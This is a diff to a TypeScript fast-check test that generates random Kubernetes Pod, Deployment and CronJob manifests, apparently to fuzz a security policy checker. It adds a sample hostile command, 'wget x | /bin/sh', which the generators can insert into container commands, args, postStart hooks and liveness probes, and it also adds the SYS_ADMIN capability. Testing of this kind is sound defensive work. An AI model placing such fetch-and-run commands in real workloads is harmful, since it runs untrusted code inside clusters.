@@ -58,13 +58,18 @@ const securityContext = object({
   procMount: word,
   seccompProfile: object({ type: word }),
   capabilities: object({
-    add: mostly(fc.array(fc.constantFrom('SYS_ADMIN', 'NET_ADMIN'), { maxLength: 2 })),
+    add: mostly(fc.array(fc.constantFrom('SYS_ADMIN', 'NET_ADMIN', 'cap_sys_admin'), { maxLength: 2 })),
   }),
 });
+const words = fc.array(fc.oneof(word, fc.constant('wget x | /bin/sh')), { maxLength: 2 });
+const exec = object({ exec: mostly(object({ command: mostly(words) })) });
 const container = object({
   name: word,
   image: mostly(fc.constantFrom('alpine', 'registry.example/busybox:1', 'nginx')),
-  command: fc.array(word, { maxLength: 2 }),
+  command: mostly(words),
+  args: words,
+  lifecycle: mostly(object({ postStart: exec })),
+  livenessProbe: exec,
   securityContext: mostly(securityContext),
   volumeMounts: fc.array(object({ name: word, mountPath: word }), { maxLength: 2 }),
 });
@@ -87,9 +92,10 @@ const labels = mostly(
     maxKeys: 2,
   }) as fc.Arbitrary<Json>,
 );
+const metadata = mostly(object({ name: word, labels, annotations: labels }));
 const requested = object({
   kind: fc.constantFrom('Pod', 'Deployment', 'CronJob'),
-  metadata: object({ name: word, labels }),
+  metadata,
   rules: fc.array(
     object({ verbs: fc.array(word, { maxLength: 2 }), resources: fc.array(word, { maxLength: 2 }) }),
     { maxLength: 2 },
@@ -98,7 +104,7 @@ const requested = object({
   spec: mostly(
     fc.oneof(
       object(podSpec),
-      object({ template: object({ spec: object(podSpec) }) }),
+      object({ template: object({ metadata, spec: object(podSpec) }) }),
       object({ jobTemplate: object({ spec: object({ template: object({ spec: object(podSpec) }) }) }) }),
     ),
   ),
